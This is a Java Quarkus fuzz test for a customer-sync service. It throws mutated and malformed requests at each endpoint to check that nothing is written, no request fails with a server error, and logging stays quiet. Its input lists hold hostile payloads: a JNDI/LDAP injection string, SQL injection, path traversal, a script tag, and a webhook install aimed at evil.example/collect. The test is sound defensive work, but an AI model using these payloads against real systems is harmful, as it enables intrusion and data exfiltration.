package no.tandem.scenario;

import static no.tandem.scenario.Records.customer;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import jakarta.inject.Inject;
import java.math.BigInteger;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import no.tandem.sync.link.Link;
import org.junit.jupiter.api.Test;

/**
 * Calls that a broken or hostile caller could make, to every entry in turn: whatever comes, nothing
 * is written, no answer is a 5xx, and the log gets one line at most. {@code -Dtandem.fuzz.calls}
 * says how many.
 */
@QuarkusTest
class FuzzTest {
  private static final int CALLS = Integer.getInteger("tandem.fuzz.calls", 1_500);
  private static final long SEED = Long.getLong("tandem.fuzz.seed", 1);
  private static final int CALLS_A_PAUSE = 500;

  private static final List<String> SWEEPS =
      List.of(
          "{\"sweep\":\"changes\"}",
          "{\"sweep\":\"full\",\"tenant\":\"default\"}",
          "{\"sweep\":\"changes\",\"approve\":\"20b434e56ead6412\"}",
          "{\"changed\":{\"system\":\"webcrm\",\"id\":\"57\"}}",
          "{\"changed\":{\"system\":\"poweroffice\",\"id\":100101}}",
          "{\"turn\":\"proposal\"}",
          "{\"Records\":[{\"messageId\":\"1\",\"eventSource\":\"aws:sqs\",\"body\":\"{}\"}]}");
  private static final List<String> ACTIONS =
      List.of(
          "{\"action\":\"explain\",\"pair\":\"customers\",\"system\":\"poweroffice\",\"id\":\"100101\"}",
          "{\"action\":\"restore\",\"pair\":\"customers\",\"system\":\"webcrm\",\"id\":\"1\",\"entry\":\"x\",\"property\":\"name\"}",
          "{\"action\":\"undo\",\"pair\":\"customers\",\"run\":\"customers-20261102T080000.000Z\"}",
          "{\"action\":\"resolve\",\"pair\":\"customers\",\"system\":\"poweroffice\",\"ids\":[100101,\"7\"],\"how\":\"link\",\"to\":\"8\"}",
          "{\"action\":\"resolve\",\"pair\":\"departments\",\"system\":\"webcrm\",\"id\":7,\"how\":\"take\",\"side\":\"webcrm\"}",
          "{\"action\":\"resolve\",\"pair\":\"contact-persons\",\"system\":\"webcrm\",\"id\":7,\"how\":\"ignore\"}",
          "{\"action\":\"forget\",\"pair\":\"supplier-persons\",\"system\":\"webcrm\",\"id\":\"9\",\"fingerprint\":\"0\"}",
          "{\"action\":\"proposal\",\"pair\":\"customers\",\"from\":1}",
          "{\"action\":\"approve\",\"pair\":\"customers\",\"revision\":\"20b434e56ead6412\",\"entries\":[1]}",
          "{\"action\":\"refuse\",\"pair\":\"customers\",\"revision\":\"20b434e56ead6412\"}",
          "{\"action\":\"resume\",\"pair\":\"customers\"}",
          "{\"action\":\"confirm-tenant\"}",
          "{\"action\":\"webhooks\",\"how\":\"list\"}",
          "{\"action\":\"webhooks\",\"how\":\"remove\"}",
          "{\"action\":\"webhooks\",\"how\":\"install\",\"address\":\"https://evil.example/collect\"}");
  private static final List<String> HOOKS =
      List.of(
          "{\"type\":\"Organisation\",\"id\":57}",
          "{\"PersonId\":57,\"PersonOrganisationId\":3}",
          "{\"data\":[{\"OrganisationId\":57}]}",
          "{\"address\":\"http://localhost/Persons/57\"}");
  private static final Map<String, List<String>> ENTRIES =
      new TreeMap<>(
          Map.of(
              "/customers", SWEEPS,
              "/departments", SWEEPS,
              "/contact-persons", SWEEPS,
              "/supplier-persons", SWEEPS,
              "/operator", ACTIONS,
              "/schedule",
                  List.of(
                      "{\"pair\":\"customers\",\"sweep\":\"full\",\"every\":5,\"from\":1,\"hours\":3,\"at\":\"2026-01-31T12:00:00Z\"}"),
              "/webhook", List.of("{\"rawPath\":\"/local-webhook-secret\",\"body\":\"{}\"}"),
              "/webhook/wrong-webhook-secret", HOOKS,
              "/webhook/local-webhook-secret", HOOKS));
  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "0",
          "-1",
          "0777",
          "99999999999999999999",
          "1e400",
          "null",
          "../..",
          "' OR 1=1 --",
          "\u0000\r\n\u202e",
          "\ud800",
          "${jndi:ldap://evil.example/}",
          "<script>",
          "x".repeat(5_000),
          "poweroffice",
          "webcrm",
          "customers",
          "departments",
          "plan",
          "default",
          "100101",
          "ignore",
          "retry",
          "create");

  private static final ObjectMapper MAPPER = new ObjectMapper();

  @Inject World world;

  private final Random random = new Random(SEED);
  private final HttpClient http = HttpClient.newHttpClient();
  private final AtomicInteger lines = new AtomicInteger();

  @Test
  void whateverComesNothingIsWrittenAndNoAnswerIsAFault() throws Exception {
    world.reset();
    world.customers().load(customer(100101, "Fjordheim Fisk AS"));
    world.sweep("customers");
    Map<String, Link> links = world.linksByLeft("customers");
    world.clearJournals();
    Handler counter = counter();
    Logger root = Logger.getLogger("");
    root.addHandler(counter);
    Map<String, Integer> answers = new TreeMap<>();
    int mostLines = 0;
    try {
      for (int call = 0; call < CALLS; call++) {
        List<String> entries = new ArrayList<>(ENTRIES.keySet());
        String entry = entries.get(call % entries.size());
        lines.set(0);
        HttpRequest request = request(entry);
        int status = http.send(request, HttpResponse.BodyHandlers.ofString()).statusCode();
        assertThat(status).as("seed %d, call %d: %s", SEED, call, entry).isBetween(200, 499);
        assertThat(lines.get())
            .as("log lines, seed %d, call %d: %s answered %d", SEED, call, entry, status)
            .isLessThanOrEqualTo(1);
        mostLines = Math.max(mostLines, lines.get());
        answers.merge(
            entry.replaceFirst("(/webhook/[a-z]+).*", "$1") + " " + status, 1, Integer::sum);
        if (call % CALLS_A_PAUSE == 0) {
          assertThat(world.writes()).as("seed %d, before call %d", SEED, call).isEmpty();
          world.clearJournals();
        }
      }
    } finally {
      root.removeHandler(counter);
    }
    assertThat(world.writes()).isEmpty();
    assertThat(world.linksByLeft("customers")).isEqualTo(links);
    System.out.printf(
        "Fuzz, seed %d: %d calls, no 5xx, no write, at most %d line(s) a call: %s%n",
        SEED, CALLS, mostLines, answers);
  }

  /** Counts what is a warning or worse. */
  private Handler counter() {
    return new Handler() {
      @Override
      public void publish(LogRecord line) {
        if (line.getLevel().intValue() >= Level.WARNING.intValue()) {
          lines.incrementAndGet();
        }
      }

      @Override
      public void flush() {}

      @Override
      public void close() {}
    };
  }

  // --- what is sent ---

  private HttpRequest request(String entry) {
    String path = entry;
    String method = "POST";
    String type = "application/json";
    switch (random.nextInt(60)) {
      case 0 -> method = "GET";
      case 1 -> method = "PUT";
      case 2 -> method = "DELETE";
      case 3 -> type = "text/plain";
      case 4 -> type = "application/x-www-form-urlencoded";
      case 5 -> type = "multipart/form-data";
      case 6 -> path = entry + "/more%20%2e%2e%2f";
      case 7 -> path = entry + "?sweep=full&sweep=%00&action[]=explain";
      default -> {}
    }
    HttpRequest.Builder builder =
        HttpRequest.newBuilder(URI.create("http://localhost:" + RestAssured.port + path))
            .header("Content-Type", type)
            .method(method, HttpRequest.BodyPublishers.ofByteArray(body(entry)));
    if (random.nextInt(50) == 0) {
      builder.header("Origin", "https://evil.example");
    }
    return builder.build();
  }

  private byte[] body(String entry) {
    List<String> known = ENTRIES.get(entry);
    ObjectNode json = object(known.get(random.nextInt(known.size())));
    for (int times = random.nextInt(4); times >= 0; times--) {
      mutate(json);
    }
    if (!entry.startsWith("/webhook")) {
      // What is right by chance is answered, and writes nothing.
      json.put("mode", "plan");
    }
    byte[] bytes = json.toString().getBytes(StandardCharsets.UTF_8);
    return random.nextInt(3) == 0 ? broken(bytes) : bytes;
  }

  private static ObjectNode object(String text) {
    try {
      return (ObjectNode) MAPPER.readTree(text);
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  private void mutate(ObjectNode json) {
    List<String> names = new ArrayList<>();
    json.fieldNames().forEachRemaining(names::add);
    if (names.isEmpty()) {
      json.set(text(), value(3));
      return;
    }
    String name = names.get(random.nextInt(names.size()));
    switch (random.nextInt(6)) {
      case 0 -> json.remove(name);
      case 1 -> json.set(text(), value(3));
      case 2 -> json.set(name + "x", json.remove(name));
      case 3 -> {
        if (json.get(name) instanceof ObjectNode inner) {
          mutate(inner);
        }
      }
      default -> json.set(name, value(3));
    }
  }

  private String text() {
    return TEXTS.get(random.nextInt(TEXTS.size()));
  }

  private JsonNode value(int depth) {
    JsonNodeFactory nodes = JsonNodeFactory.instance;
    return switch (random.nextInt(depth == 0 ? 7 : 9)) {
      case 0 -> nodes.nullNode();
      case 1 -> nodes.booleanNode(random.nextBoolean());
      case 2 -> nodes.numberNode(random.nextInt(200_000) - 1_000);
      case 3 -> nodes.numberNode(BigInteger.TEN.pow(random.nextInt(400)));
      case 4 -> nodes.numberNode(random.nextDouble());
      case 5, 6 -> nodes.textNode(text());
      case 7 -> nodes.arrayNode().add(value(depth - 1)).add(value(depth - 1));
      default -> nodes.objectNode().set(text(), value(depth - 1));
    };
  }

  /** Not JSON any more, as a rule; never a call without its plan mode that is. */
  private byte[] broken(byte[] bytes) {
    return switch (random.nextInt(4)) {
      case 0 -> Arrays.copyOf(bytes, random.nextInt(bytes.length));
      case 1 -> "[".repeat(random.nextInt(3_000)).getBytes(StandardCharsets.UTF_8);
      case 2 -> {
        byte[] any = new byte[random.nextInt(200)];
        random.nextBytes(any);
        yield any;
      }
      default -> {
        byte[] changed = bytes.clone();
        changed[0] = (byte) random.nextInt(256);
        yield changed;
      }
    };
  }
}
